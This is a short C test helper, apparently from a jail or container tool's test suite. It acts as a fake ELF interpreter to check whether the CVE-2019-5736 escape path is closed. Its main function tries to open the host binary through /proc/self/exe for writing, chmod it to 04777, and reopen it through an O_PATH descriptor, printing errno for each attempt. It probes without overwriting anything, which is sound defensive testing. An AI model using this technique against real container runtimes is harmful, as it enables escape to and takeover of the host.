/*
 * fakeld: planted in a jail as its ELF interpreter (the CVE-2019-5736
 * pattern).  A jail command "#!/proc/self/exe" makes the kernel run the
 * entering host binary again inside the jail, and that binary's
 * interpreter is taken from the jail's tree: this one.  It runs as the
 * jailed process whose /proc/self/exe is the host binary, and tries to
 * open that binary for writing and to change its mode.  It prints one
 * line per attempt: "<what> <errno>" (0: the attack worked).
 *
 * No libc: an interpreter gets control before anything is set up.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <asm/unistd.h>
#include <fcntl.h>

static long
sys3(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile ("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b),
	    "d"(c) : "rcx", "r11", "memory");
	return ret;
}

static void
say(const char *what, long rc)
{
	char buf[64];
	int n = 0, e = rc < 0 ? (int)-rc : 0;
	char num[12];
	int k = 0;

	while (what[n] != '\0' && n < 40) {
		buf[n] = what[n];
		n++;
	}
	buf[n++] = ' ';
	do {
		num[k++] = (char)('0' + e % 10);
		e /= 10;
	} while (e > 0);
	while (k > 0)
		buf[n++] = num[--k];
	buf[n++] = '\n';
	sys3(__NR_write, 1, (long)buf, n);
}

void fakeld_main(void);

void __attribute__((noreturn, used))
fakeld_main(void)
{
	long fd;

	fd = sys3(__NR_open, (long)"/proc/self/exe", O_WRONLY, 0);
	say("open-exe-write", fd);
	fd = sys3(__NR_open, (long)"/proc/self/exe", O_RDWR, 0);
	say("open-exe-rdwr", fd);
	say("chmod-exe", sys3(__NR_chmod, (long)"/proc/self/exe", 04777, 0));
	fd = sys3(__NR_open, (long)"/proc/self/exe", O_PATH, 0);
	say("open-exe-path", fd < 0 ? fd : 0);
	if (fd >= 0) {
		char p[32] = "/proc/self/fd/";
		int n = 14;

		p[n++] = (char)('0' + fd / 10 % 10);
		p[n++] = (char)('0' + fd % 10);
		p[n] = '\0';
		if (p[14] == '0') {
			p[14] = p[15];
			p[15] = '\0';
		}
		say("reopen-exe-write", sys3(__NR_open, (long)p, O_WRONLY, 0));
	}
	sys3(__NR_exit_group, 0, 0, 0);
	for (;;)
		;
}

__asm__(".globl _start\n_start:\n\tandq $-16, %rsp\n\tcall fakeld_main\n");
